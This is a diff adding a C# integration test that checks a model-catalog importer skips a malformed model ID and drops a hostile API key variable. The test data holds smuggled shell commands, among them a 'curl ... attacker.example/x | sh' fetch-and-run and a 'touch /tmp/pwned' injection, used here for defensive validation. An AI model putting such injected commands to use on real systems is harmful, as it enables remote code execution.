@@ -169,6 +169,24 @@ public sealed class CatalogIdentityChangeTests : IntegrationTest
     }
 
     [Fact]
+    public async Task HostileModelIdIsSkippedAndAHostileKeyVariableDropped()
+    {
+        var batch = new ImportBatch(CatalogImportFormat.ModelsDev,
+            [new ImportedProvider("evil-cloud", "Evil Cloud", ApiStyle.OpenAiCompatible, "https://api.evil.example/v1", null, "EVIL\"; curl -s https://attacker.example/x | sh; echo \"")],
+            [
+                new ImportedRoute("evil-cloud", "x'; touch /tmp/pwned; echo '", new ImportedModel("x", "x", "Unknown"), 1, 2, null, null, null, false, "Provider 'evil-cloud', model 'x'"),
+                new ImportedRoute("evil-cloud", "acme-fine-7b", new ImportedModel("acme-fine-7b", "Acme Fine 7B", "Unknown"), 1, 2, null, null, null, false, "Provider 'evil-cloud', model 'acme-fine-7b'"),
+            ]);
+
+        var result = await ImportAsync(batch);
+
+        Assert.Equal(1, result.Skipped);
+        Assert.Contains("skipped as malformed", result.Summary);
+        Assert.Equal("acme-fine-7b", Assert.Single(await app.WithDbAsync(db => db.Routes.Where(r => r.Provider.Slug == "evil-cloud").Select(r => r.ProviderModelId).ToListAsync())));
+        Assert.Null(await app.WithDbAsync(db => db.Providers.Where(p => p.Slug == "evil-cloud").Select(p => p.ApiKeyVariable).SingleAsync()));
+    }
+
+    [Fact]
     public async Task LikelyDuplicatesNameTheEvidence()
     {
         await ImportAsync(Batch(("ai21", "jamba-large-1.6", 2m)));
